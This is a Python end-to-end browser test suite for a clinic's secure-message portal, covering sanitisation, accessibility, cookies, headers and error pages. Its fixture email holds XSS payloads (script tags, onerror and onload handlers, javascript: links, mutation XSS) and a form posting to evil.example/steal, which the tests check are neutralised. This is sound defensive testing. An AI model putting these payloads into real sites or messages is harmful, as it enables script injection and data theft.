#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The portal as people see it: Chromium, through nginx, of messages that came through Postfix. Screenshots: build-tests/browser/shots."""
import base64
import email.headerregistry
import email.message
import email.policy
import os
import pathlib
import re
import ssl
import struct
import sys
import time
import urllib.error
import urllib.request
import zipfile
import zlib

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "mta"))
import lab  # noqa: E402

from lab import browser  # noqa: E402
from lab.nginx import Nginx  # noqa: E402
from lab.portal import Portal  # noqa: E402

HOST = "pickup.clinic.test"
URL = "https://" + HOST
PDF = b"%PDF-1.4\n% a report of 300 KB\n" + bytes(range(256)) * 1200
HOSTILE = '"><img src=x onerror=alert(1)>.txt'
FROM = email.headerregistry.Address("Laboratory <img src=x onerror=alert('from')>", "results", "clinic.test")
SUBJECT = "Your blood test <script>alert('subject')</script>"
TEXT = "Dear Mrs. Jones,\n\nyour blood test of last week is back. MRN 44721. Diagnosis: diabetes, HbA1c 7.9 %.\n"
HTML = """<html><head><style>p { color: #222 } @import url(https://evil.example/x.css); body { background: url(https://evil.example/bg.png) }</style>
<script>alert('head')</script><base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/"></head>
<body onload="alert('load')"><h2>Dear Mrs. Jones,</h2><p id="said">your blood test of last week is back. MRN 44721. Diagnosis: diabetes, HbA1c 7.9 %.</p>
<p><img src="cid:chart" alt="A chart of your values" width="120"><img src="https://evil.example/pixel.png" alt=""><img src=x onerror="alert('img')"></p>
<svg onload="alert('svg')"><script>alert('svg script')</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<p><a href="javascript:alert('link')" id="bad">Bad</a> <a href="https://clinic.example/advice" id="fine">Advice</a></p>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x"></object><embed src="https://evil.example/y">
<form action="https://evil.example/steal" method="post"><input name="code"><button>Send</button></form>
<math><mtext><style><img src=x onerror="alert('mutation')"></style></mtext></math>
<p>Keep taking your metformin as before, and write your readings into the diary.</p><p>With kind regards,<br>Nurse Okafor</p></body></html>"""
# WCAG 1.4.12: what then is wider or higher than what holds it, and hidden there.
SPACED = """(() => { for (const e of document.querySelectorAll('body, body *'))
	for (const [name, value] of [['line-height', '1.5'], ['letter-spacing', '0.12em'], ['word-spacing', '0.16em'], ...(e.matches('p') ? [['margin-bottom', '2em']] : [])])
		e.style.setProperty(name, value, 'important');
	return [...document.querySelectorAll('body *')].filter(e => !e.closest('.hidden, .skip') && getComputedStyle(e).overflow !== 'visible' &&
		(e.scrollWidth > e.clientWidth + 1 || e.scrollHeight > e.clientHeight + 1) && !e.matches('textarea, iframe')).map(e => e.outerHTML.slice(0, 120)); })()"""
# Without anything of that, for those who look at the pictures.
CALM = """<p>Estimada señora Ortega:</p><p>Ya tenemos el resultado de su análisis de sangre: HbA1c 7.9 %.</p><p><img src="cid:chart" alt="A chart of your values" width="160"></p>
<p>Siga tomando la metformina como hasta ahora y anote sus valores en el diario. Llámenos para pedir una cita.</p><p>Un cordial saludo,<br>Enfermera Okafor</p>"""
# What the graders of header fields look at (their best grade needs all of it).
HEADERS = {
    "strict-transport-security": r"max-age=(3153[6-9]\d{3}|[4-9]\d{7}|\d{9,})\b.*includeSubDomains",
    "content-security-policy": r"default-src 'none'(?!.*unsafe)(?=.*frame-ancestors 'none')(?=.*base-uri 'none')(?=.*form-action '(self|none)')",
    "x-content-type-options": "^nosniff$",
    "x-frame-options": "^DENY$",
    "referrer-policy": "^no-referrer$",
    "permissions-policy": r"camera=\(\).*microphone=\(\)",
    "cross-origin-opener-policy": "^same-origin$",
    "cross-origin-resource-policy": "^same-origin$",
    "cross-origin-embedder-policy": "^require-corp$",
    "cache-control": "no-store",
    "server": "^nginx$",
}


def png(width, height):
    """A picture: lines that grow."""
    rows = b"".join(b"\0" + bytes(40 if x % 8 > 2 and y > height - x else 235 for x in range(width)) for y in range(height))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


class World:
    """What all walks share."""

    def __init__(self, site, portal, chromium):
        self.site, self.tap, self.portal, self.chromium = site, site.tap, portal, chromium
        self.pages, self.links, self.axed = [], [], set()
        self.tls = ssl.create_default_context(cafile=site.ca.path)

    # ---- mail
    def hand_in(self, rcpt, html=HTML, subject=SUBJECT):
        """A message with everything; the path of the link that the recipient gets."""
        before = len(self.portal.mails(rcpt))
        mail = email.message.EmailMessage(policy=email.policy.SMTP)
        mail["From"], mail["To"], mail["Subject"], mail["Date"] = FROM, rcpt, subject, "Sun, 22 Nov 2026 10:41:00 +0000"
        mail["Message-ID"] = "<%f@clinic.test>" % time.time()
        mail.set_content(TEXT)
        if html:
            mail.add_alternative(html, subtype="html")
            mail.get_payload()[1].add_related(png(240, 120), "image", "png", cid="<chart>")
            mail.add_attachment(PDF, "application", "pdf", filename="Laboratory report 2026-11-20.pdf")
            if html is HTML:
                mail.add_attachment(b"Nothing here.\n", "text", "plain", filename=HOSTILE)
        with lab.Client() as smtp:
            smtp.mail("results@clinic.test")
            smtp.rcpt(rcpt)
            smtp.data(mail.as_bytes())
        self.notice = self.portal.mail(rcpt, before)
        link = self.portal.link(self.notice)
        self.links.append(link)
        return link

    # ---- pages
    def page(self, name, **options):
        page = self.chromium.page(name, **options)
        self.pages.append(page)
        return page

    def look(self, page, name, heading, judge=True, other=None):
        """A page has arrived: its heading, how it lies on the screen, what axe says (of the other); a screenshot."""
        page.shot(name)
        seen = page.innerText("h1")
        self.tap.equal(seen, heading, "%s: the page" % name)
        layout = page.layout()
        self.tap.equal((layout["beside"], layout["small"]), (0, []), "%s: all of it on the screen, and large enough to hit" % name)
        if judge:
            self.tap.equal((other or page).axe(), [], "%s: no barrier that axe-core finds" % name)

    def enter(self, page, link, rcpt, name=None, texts=None):
        """From the link to the message."""
        before = len(self.portal.mails(rcpt))
        page.goto(URL + link)
        if name:
            self.look(page, name + "-link", texts[0])
        page.follow("button.main")
        if name:
            self.look(page, name + "-code", texts[1])
        page.fill("#code", self.portal.code(self.portal.mail(rcpt, before)))
        page.follow("button.main")

    def get(self, path, method="GET", data=None, **headers):
        """Without a browser: status, header fields, body. The certificate must be right."""
        request = urllib.request.Request(URL + path, data=data, method=method, headers=headers)
        opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=self.tls), NoRedirect)
        try:
            answer = opener.open(request, timeout=30)
        except urllib.error.HTTPError as error:
            answer = error
        with answer:
            return answer.status, {k.lower(): v for k, v in answer.getheaders()}, answer.read()


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_):
        return None


def notice(world, name, language, subject):
    """The notice as a mail program shows it, which loads nothing from elsewhere."""
    tap = world.tap
    mail = email.message_from_bytes(world.notice.data, policy=email.policy.SMTP)
    tap.ok(subject in mail["Subject"] and b"HbA1c" not in world.notice.data and b"blood" not in world.notice.data, "%s: names the site and nothing of the message" % name, mail["Subject"])
    html = mail.get_body(("html",)).get_content()
    logo, = [p for p in mail.walk() if p.get_content_type() == "image/png"]
    html = html.replace("cid:" + logo["Content-ID"].strip("<>"), "data:image/png;base64," + base64.b64encode(logo.get_content()).decode())
    page = world.page(name, viewport={"width": 700, "height": 760})
    page.setContent(html)
    world.look(page, name, {"en": "A secure message is waiting for you", "es": "Un mensaje seguro le espera"}[language])
    tap.equal(page.evaluate("document.images[0].naturalWidth"), 88, "%s: with the logo" % name)


def desktop(world):
    """All of it, on a large screen."""
    tap, rcpt = world.tap, "maria@plain.test"
    link = world.hand_in(rcpt)
    notice(world, "en-notice", "en", "Riverside Clinic has sent you a secure message")
    page = world.page("desktop", viewport={"width": 1000, "height": 760})
    page.goto(URL + link)
    world.look(page, "en-link", "A secure message is waiting for you")
    tap.equal(page.cookies(), [], "the link sets no cookie")
    before = len(world.portal.mails(rcpt))
    page.follow("button.main")
    world.look(page, "en-code", "Please show that it is you")
    code = world.portal.code(world.portal.mail(rcpt, before))
    page.fill("#code", "".join(str((int(c) + 1) % 10) for c in code))
    page.follow("button.main")
    world.look(page, "en-code-wrong", "Please show that it is you")
    tap.ok(page.title().startswith("Error: ") and page.getAttribute("#code", "aria-invalid") == "true"
           and "wrong" in page.getAttribute("#code", "aria-describedby").split(), "a wrong code is said in the title and at the field", page.title())
    tap.equal(page.getAttribute("#code", "autocomplete") + " " + page.getAttribute("#code", "inputmode"), "one-time-code numeric", "the field asks for a code")
    page.fill("#code", code[:4] + " - " + code[4:])
    page.follow("button.main")
    world.look(page, "en-message", SUBJECT)
    here = page.url()
    tap.ok(re.fullmatch(re.escape(URL) + r"/read/[A-Za-z0-9_-]+", here) and link.split("/")[-1] not in here, "the secret is in the address no more", here)
    cookie, = page.cookies()
    tap.ok(cookie["name"].startswith("__Secure-") and cookie["httpOnly"] and cookie["secure"] and cookie["sameSite"] == "Strict"
           and cookie["path"] == here[len(URL):], "its cookie", cookie)
    text = page.frame("iframe.body")
    tap.ok("HbA1c 7.9 %" in text and "Nurse Okafor" in text and "alert" not in text, "the message is read in its frame", text)
    size = page.evaluate("document.querySelector('iframe.body').contentDocument.querySelector('img[alt^=A]').naturalWidth")
    tap.equal(size, 240, "with its own picture")
    tap.equal(page.evaluate("[...document.querySelector('iframe.body').contentDocument.querySelectorAll('a[href]')].map(a => a.href)"),
              ["https://clinic.example/advice"], "and the one link that leads somewhere")
    tap.equal(page.evaluate("document.querySelector('iframe.body').contentDocument.querySelectorAll('form, input, iframe, object, embed, script, meta[http-equiv], base, svg, math').length"),
              0, "without what could act")
    saved(world, page)
    printed(world, page, here)
    replied(world, page)
    page.goto(here)
    page.follow(".leave button")
    world.look(page, "en-left", "You are signed out")
    tap.equal(page.cookies(), [], "signing out takes the cookie away")
    status, _ = page.open(here)
    tap.ok(status == 403 and "HbA1c" not in page.text(), "the message is closed", status)
    page.goto(URL + link)
    world.look(page, "en-again", "A secure message is waiting for you")


def saved(world, page):
    """The files."""
    tap = world.tap
    files = page.evaluate("[...document.querySelectorAll('.files li a')].map(a => a.getAttribute('href'))")
    names = []
    for path in files:
        got = page.save(".files li a[href='%s']" % path)
        with open(got["path"], "rb") as file:
            names.append((got["name"], file.read()))
    tap.equal([data for _, data in names], [PDF, b"Nothing here.\n"], "files are saved as they were")
    tap.ok(names[0][0] == "Laboratory report 2026-11-20.pdf" and not set('<>"/\\') & set(names[1][0]), "and as they were called", [n for n, _ in names])
    got = page.save(".files a[href$='/zip']")
    with zipfile.ZipFile(got["path"]) as archive:
        tap.ok(archive.testzip() is None and sorted(archive.read(n) for n in archive.namelist())[-1:] and {PDF, b"Nothing here.\n"} <= {archive.read(n) for n in archive.namelist()},
               "all of them in a zip", archive.namelist())


def printed(world, page, here):
    """The page for printing: all of it, on paper too."""
    page.follow(".actions a[href$='/print']")
    # Its headers have a sandbox in which no script runs, axe neither: a copy is judged.
    copy = world.page("print-copy", viewport={"width": 1000, "height": 760})
    copy.goto(URL + "/nothing")
    copy.setContent(page.content())
    world.look(page, "en-print", SUBJECT, other=copy)
    world.tap.ok("HbA1c 7.9 %" in page.text() and "Nurse Okafor" in page.text() and "Laboratory report" in page.text(), "the page for printing has it all", page.text())
    page.emulateMedia({"media": "print"})
    page.shot("en-print-paper")
    world.tap.equal(page.isVisible(".screen"), False, "on paper, without buttons")
    page.emulateMedia({"media": "screen"})
    page.follow(".screen a")
    world.tap.equal(page.url(), here, "and back")


def replied(world, page):
    """A reply: empty, and with a file."""
    tap = world.tap
    page.follow(".actions a[href$='/reply']")
    world.look(page, "en-reply", "Your answer")
    page.follow("button.main")
    world.look(page, "en-reply-empty", "Your answer")
    tap.ok("Nothing was sent" in page.innerText(".error"), "an empty reply is not sent")
    page.fill("#text", "Dear nurse,\nthank you. <b>I</b> shall call tomorrow. Año ½ €")
    with open("answer.txt", "wb") as out:
        out.write(b"readings: 6.1 6.4 7.0\n")
    page.setInputFiles("#files", os.path.abspath("answer.txt"))
    inside = world.site.sinks["inside"]
    before = len(inside.copies)
    page.follow("button.main")
    world.look(page, "en-sent", "Your answer was sent")
    lab.wait_for(lambda: len(inside.copies) > before, "the reply arrives inside", 30)
    mail = email.message_from_bytes(inside.copies[before].data, policy=email.policy.SMTP)
    body = mail.get_body(("plain",)).get_content()
    tap.ok(inside.copies[before].to == ["results@clinic.test"] and "I</b> shall call tomorrow. Año ½ €" in body, "it reaches who wrote, as it was typed", body)
    tap.equal([(p.get_filename(), p.get_payload(decode=True)) for p in mail.iter_attachments()], [("answer.txt", b"readings: 6.1 6.4 7.0\n")], "with the file")
    page.follow(".actions a.main")


def phone(world):
    """A phone in the dark, in Spanish, without script."""
    tap, rcpt = world.tap, "rosa@plain.test"
    link = world.hand_in(rcpt, CALM, "Resultados de su análisis de sangre")
    notice(world, "es-notice", "es", "Riverside Clinic le ha enviado un mensaje seguro")
    page = world.page("phone", viewport={"width": 360, "height": 720}, colorScheme="dark", locale="es-MX", javaScriptEnabled=False, hasTouch=True)
    before = len(world.portal.mails(rcpt))
    page.goto(URL + link)
    world.look(page, "es-link", "Un mensaje seguro le espera", judge=False)
    tap.equal(page.getAttribute("html", "lang"), "es", "in the reader's language")
    page.follow("button.main")
    world.look(page, "es-code", "Confirme que es usted", judge=False)
    mail = world.portal.mail(rcpt, before)
    tap.ok("código" in world.portal.text(mail), "the code's mail too", world.portal.text(mail))
    page.fill("#code", world.portal.code(mail))
    page.follow("button.main")
    world.look(page, "es-message", "Resultados de su análisis de sangre", judge=False)
    tap.ok("HbA1c 7.9 %" in page.frame("iframe.body"), "the message")
    got = page.save(".files li a >> nth=0")
    with open(got["path"], "rb") as file:
        tap.equal(file.read(), PDF, "a file")
    page.follow(".actions a[href$='/reply']")
    world.look(page, "es-reply", "Su respuesta", judge=False)
    page.fill("#text", "Gracias.")
    page.follow("button.main")
    world.look(page, "es-sent", "Su respuesta se ha enviado", judge=False)
    page.follow(".leave button")
    world.look(page, "es-left", "Ha salido", judge=False)
    # The same screen for axe, which is a script.
    judged = world.page("phone-judged", viewport={"width": 360, "height": 720}, colorScheme="dark", locale="es-MX")
    world.enter(judged, link, rcpt, "es-dark", ("Un mensaje seguro le espera", "Confirme que es usted"))
    world.look(judged, "es-dark-message", "Resultados de su análisis de sangre")
    judged.follow(".actions a[href$='/reply']")
    world.look(judged, "es-dark-reply", "Su respuesta")


def keyboard(world):
    """Keys only, large letters, forced colours."""
    tap, rcpt = world.tap, "kim@plain.test"
    link = world.hand_in(rcpt, html=None)
    page = world.page("keyboard", viewport={"width": 640, "height": 720}, forcedColors="active", reducedMotion="reduce")
    seen = []

    def to(what):
        """Tab until it has the focus, which must be seen everywhere on the way."""
        for _ in range(20):
            page.type("Tab")
            here = page.focused()
            seen.append(here)
            if here["what"].startswith(what):
                return
        raise AssertionError("no way by keyboard to %s: %r" % (what, seen))

    page.goto(URL + link)
    page.type("Tab")
    tap.equal(page.focused()["what"], "A #main", "the first stop leads past the header")
    before = len(world.portal.mails(rcpt))
    to("BUTTON Send me the code")
    page.type("Enter")
    page.waitForSelector("#code")
    to("INPUT code")
    page.type(*world.portal.code(world.portal.mail(rcpt, before)))
    page.type("Enter")
    page.waitForSelector("article.message")
    world.look(page, "en-keyboard-message", SUBJECT)
    tap.ok("HbA1c 7.9 %" in page.innerText(".body.text"), "a message without HTML is read as it is")
    to("A /read/")
    to("BUTTON Sign out")
    page.type("Enter")
    page.waitForURL("**/leave")
    tap.equal([f["what"] for f in seen if f["outline"] < 2], [], "the focus is always seen")


def errors(world):
    """Pages of what cannot be."""
    tap, page = world.tap, world.page("errors", viewport={"width": 1000, "height": 760})
    bodies = {}

    def gone(name, link, method="POST"):
        page.goto(URL + link)
        if method == "POST" and page.isVisible("button.main"):
            page.follow("button.main")
        bodies[name] = page.text()

    recalled, expired, locked = (world.hand_in(rcpt, html=None) for rcpt in ("recalled@plain.test", "late@plain.test", "locked@plain.test"))
    world.portal.ctl("recall", world.portal.id(recalled))
    world.portal.ctl("expire", world.portal.id(expired))
    gone("recalled", recalled)
    world.look(page, "en-gone", "This message cannot be opened")
    gone("unknown", "/m/" + "A" * (len(recalled) - 3))
    page.goto(URL + locked)
    page.follow("button.main")
    for _ in range(30):
        if not page.isVisible("#code"):
            break
        page.fill("#code", "00000000")
        page.follow("button.main")
    tap.ok(not page.isVisible("#code"), "who guesses is stopped", page.text())
    world.look(page, "en-stopped", page.innerText("h1"))
    tap.equal(bodies["recalled"], bodies["unknown"], "what was recalled looks like what never was")
    page.goto(URL + expired)
    if page.isVisible("button.main"):
        page.follow("button.main")
    world.look(page, "en-expired", "This message is no longer here")
    for name, path, heading in (("en-notfound", "/nothing/here", "There is no such page"), ("en-session", "/read/AAAAAAAAAAAAAAAA", "You are signed out")):
        page.goto(URL + path)
        world.look(page, name, heading)


def careful(world):
    """Code and passphrase; a form that was tampered with; a reply that is too large."""
    tap, rcpt = world.tap, "olga@plain.test"
    world.portal.ctl("passphrase", rcpt, text="blue heron at noon\n")
    link = world.hand_in(rcpt, html=None)
    page = world.page("careful", viewport={"width": 320, "height": 640})
    page.goto(URL + link)
    world.look(page, "en-both-link", "A secure message is waiting for you")
    before = len(world.portal.mails(rcpt))
    page.follow("button.main")
    world.look(page, "en-both", "Please show that it is you")
    code = world.portal.code(world.portal.mail(rcpt, before))
    page.fill("#code", code)
    page.fill("#passphrase", "blue heron at one")
    page.follow("button.main")
    world.look(page, "en-both-wrong", "Please show that it is you")
    page.fill("#code", code)
    page.fill("#passphrase", "blue heron at noon")
    page.follow("button.main")
    world.look(page, "en-small-message", SUBJECT)
    tap.ok("Laboratory <img src=x onerror=alert('from')>" in page.text(), "a name that is markup is a name", page.text())
    tap.equal(page.evaluate(SPACED), [], "with letters, words and lines as far apart as a reader may set them, nothing is cut off")
    tap.equal(page.layout()["beside"], 0, "nor beside the screen")
    page.follow(".actions a[href$='/reply']")
    with open("large.bin", "wb") as out:
        out.write(bytes(3 << 20))
    page.fill("#text", "Here it is.")
    page.setInputFiles("#files", os.path.abspath("large.bin"))
    page.follow("button.main")
    world.look(page, "en-large", page.innerText("h1"))
    tap.ok("too large" in page.text() and "1 MB" in page.text(), "a reply that is too large is told what may be sent", page.text())
    page.goto(URL + link)
    page.evaluate("document.querySelector('[name=csrf]').value = '0'")
    page.follow("button.main")
    world.look(page, "en-stale", "Please open the link again")


def headers(world):
    """As scanners of headers grade them; and what nginx wrote down."""
    tap, link = world.tap, world.links[0]
    for name, path in (("the link", link), ("no page", "/nothing"), ("no session", "/read/AAAAAAAAAAAAAAAA")):
        _, fields, _ = world.get(path)
        bad = [k for k, wanted in HEADERS.items() if not re.search(wanted, fields.get(k, ""), re.I)]
        tap.equal(bad, [], "%s: header fields as the strictest graders want them" % name)
        tap.ok("set-cookie" not in fields, "%s: no cookie" % name, fields)
    status, fields, _ = world.get("/m/x", method="DELETE")
    tap.ok(status == 405 and "GET" in fields.get("allow", "GET"), "no other methods", status)
    plain = urllib.request.Request("http://%s%s" % (HOST, link))
    try:
        answer = urllib.request.build_opener(NoRedirect).open(plain, timeout=30)
    except urllib.error.HTTPError as error:
        answer = error
    tap.equal((answer.status, answer.headers["Location"]), (301, URL + "/"), "a link without TLS is not sent on")


def silence(world, nginx):
    """What happened beside the pages, on all of them."""
    tap = world.tap
    seen = {page.name: page.seen() for page in world.pages}
    tap.equal({n: s["dialogs"] + s["popups"] for n, s in seen.items() if s["dialogs"] or s["popups"]}, {}, "nothing of a message ran")
    strange = [r for s in seen.values() for r in s["requests"] if not r.split(" ", 1)[1].startswith((URL + "/", "data:", "about:"))]
    tap.equal(strange, [], "nothing from elsewhere was asked for")
    tap.equal([c for s in seen.values() for c in s["console"] if "Content Security Policy" in c or "Error" in c], [], "and the headers had nothing to forbid")
    secrets = [link.split("/")[-1][16:] for link in world.links]
    tap.ok("/m/-" in nginx.log() and not any(s in nginx.log() for s in secrets), "no link in nginx's logs")
    tap.equal(nginx.kept(), [], "and no file of what went through")
    tap.ok(not any(s in world.portal.log() for s in secrets), "nor in the portal's")


def outage(world, nginx):
    """The portal is down: nginx says so, in its own words."""
    world.portal.stop()
    page = world.page("outage", viewport={"width": 360, "height": 720})
    status, fields = page.open(URL + world.links[0])
    world.look(page, "en-outage", "Please try again later")
    world.tap.ok(status == 503 and "default-src 'none'" in fields.get("content-security-policy", "") and "max-age" in fields.get("strict-transport-security", ""),
                 "an outage has a page", fields)


if not os.environ.get("MILWARD_LAB"):
    browser.install()
with lab.Site() as site:
    site.dns.host(HOST, "127.0.0.1")
    site.dns.restart()
    portal = Portal(site, URL, "reply-size 1M")
    nginx = Nginx(site, HOST, portal.socket).start()
    with browser.Browser(browser.folder(), os.path.join(browser.folder(), "shots"), "--host-resolver-rules=MAP %s 127.0.0.1" % HOST) as chromium:
        world = World(site, portal, chromium)
        for walk in (desktop, phone, keyboard, careful, errors, headers):
            walk(world)
        outage(world, nginx)
        silence(world, nginx)
    nginx.stop()
